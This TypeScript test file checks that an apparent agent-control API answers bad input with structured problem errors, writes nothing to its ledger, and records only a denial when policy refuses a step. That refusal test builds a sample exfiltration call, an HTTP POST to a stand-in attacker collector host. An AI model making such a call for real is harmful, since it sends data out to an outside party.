import { Problem } from '@causeway/contracts';
import { apiOf, type Api, type Work } from './api.ts';
import { CASES, type Case, type Payload, type Who } from './bad-input-cases.ts';
import { send, type Received } from './http.ts';
import { startSystem, START_TIMEOUT_MS, STOP_TIMEOUT_MS, type System } from './system.ts';

const bodyOf = ({ text, body }: Payload): string | undefined =>
  text ?? (body === undefined ? undefined : JSON.stringify(body));

describe('bad input', () => {
  let system: System;
  let api: Api;
  let own: Work;
  let other: Work;
  let tokens: { readonly [who in Who]: string };
  let before: number;

  beforeAll(async () => {
    system = await startSystem();
    api = apiOf(system);
    own = await api.startWork('agent-own');
    other = await api.startWork('agent-other');
    tokens = { ...system.keys, agent: own.token, nobody: '' };
    before = await api.nextPosition();
  }, START_TIMEOUT_MS);
  afterAll(() => system.stop(), STOP_TIMEOUT_MS);

  const filled = (text: string): string =>
    text.replaceAll('{run}', own.runId).replaceAll('{other}', other.runId).replaceAll('{session}', own.sessionId);

  const authorizationOf = (as: Who, { authorization }: Payload): string | undefined =>
    authorization ?? (as === 'nobody' ? undefined : `Bearer ${tokens[as]}`);

  function sendCase([, as, to, , payload = {}]: Case): Promise<Received> {
    const [method = '', path = ''] = filled(to).split(' ');
    const authorization = authorizationOf(as, payload);
    const body = bodyOf(payload);
    const { type = 'application/json' } = payload;
    return send({
      method,
      url: new URL(path, system.gatewayUrl),
      headers: { ...(authorization && { authorization }), ...(body !== undefined && { 'content-type': type }) },
      ...(body !== undefined && { body: filled(body) }),
    });
  }

  it.each(CASES.map((given) => [given[0], given] as const))('is answered by a problem: %s', async (_, given) => {
    const { status, headers, body } = await sendCase(given);
    const { status: wanted, code, names } = given[3];
    expect(body).toMatchObject({ status: wanted, code });
    expect(status).toBe(wanted);
    expect(headers['content-type']).toMatch(/^application\/problem\+json/);
    const problem = Problem.parse(body);
    const told = [
      problem.detail,
      problem.instance ?? '',
      ...(problem.errors ?? []).flatMap(({ path, message }) => [path, message]),
    ];
    expect([...told, ...(problem.allowed ?? [])].join('\n')).toContain(names);
  });

  it('leaves no trace in the ledger', async () => {
    expect(await api.nextPosition()).toBe(before);
  });

  it('that policy refuses leaves the refusal and nothing else', async () => {
    const input = { url: 'https://collector.attacker.example/', method: 'POST', body: 'x' };
    const { status, body } = await api.step(own, 'forbidden', ['network.http-fetch', input]);
    expect(status).toBe(403);
    expect(Problem.parse(body)).toMatchObject({ code: 'POLICY_DENIED', rule: expect.stringMatching(/./) as string });
    const added = (await api.events()).slice(before).map(({ type }) => type);
    expect(added).toEqual(['step.requested', 'policy.decided', 'step.denied']);
  });
});
